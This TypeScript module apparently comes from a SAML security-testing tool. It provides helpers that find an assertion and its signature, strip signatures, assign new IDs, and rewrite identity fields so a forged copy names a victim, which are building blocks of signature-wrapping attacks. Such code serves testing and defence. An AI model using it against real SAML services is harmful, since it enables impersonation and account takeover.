import { namespaces } from '../names';
import { createId } from '../messages/createId';
import { childElements } from '../xml/children';
import { SamlAttackContext } from './types';

/** The one element of that name in the document. */
export function theElement(
  root: Element,
  namespace: string,
  localName: string,
): Element {
  const found = root.getElementsByTagNameNS(namespace, localName);
  if (found.length !== 1) {
    throw new Error(`There are ${found.length} elements ${localName}`);
  }
  return found[0];
}

/** The assertion of an answer with one assertion. */
export function theAssertion(root: Element): Element {
  return theElement(root, namespaces.assertion, 'Assertion');
}

/** The signature that is a child of the element. */
export function signatureOf(parent: Element): Element {
  const [signature] = childElements(parent, namespaces.signature, 'Signature');
  if (!signature) {
    throw new Error(`${parent.localName} is not signed`);
  }
  return signature;
}

/** Takes an element out of its place. */
export function detach(element: Element): Element {
  element.parentNode?.removeChild(element);
  return element;
}

function replaceTexts(node: Node, texts: Map<string, string>): void {
  for (const child of Array.from(node.childNodes)) {
    if (child.nodeType === 1) {
      replaceTexts(child, texts);
    } else if (child.nodeType === 3) {
      const text = child as Text;
      text.data = texts.get(text.data) ?? text.data;
    }
  }
}

/** Makes everything inside the element speak of the victim. */
export function impersonate(
  element: Element,
  { person, victim }: SamlAttackContext,
): void {
  replaceTexts(
    element,
    new Map([
      [person.subject, victim.subject],
      [person.username, victim.username],
      [person.email, victim.email],
      [person.givenName, victim.givenName],
      [person.familyName, victim.familyName],
      [person.name, victim.name],
    ]),
  );
}

/**
 * A copy that speaks of the victim, under other IDs and without any
 * signature.
 */
export function evilCopy(element: Element, context: SamlAttackContext) {
  const copy = element.cloneNode(true) as Element;
  for (const one of [copy, ...Array.from(copy.getElementsByTagName('*'))]) {
    if (one.hasAttribute('ID')) {
      one.setAttribute('ID', createId());
    }
  }
  for (const signature of Array.from(
    copy.getElementsByTagNameNS(namespaces.signature, 'Signature'),
  )) {
    detach(signature);
  }
  impersonate(copy, context);
  return copy;
}
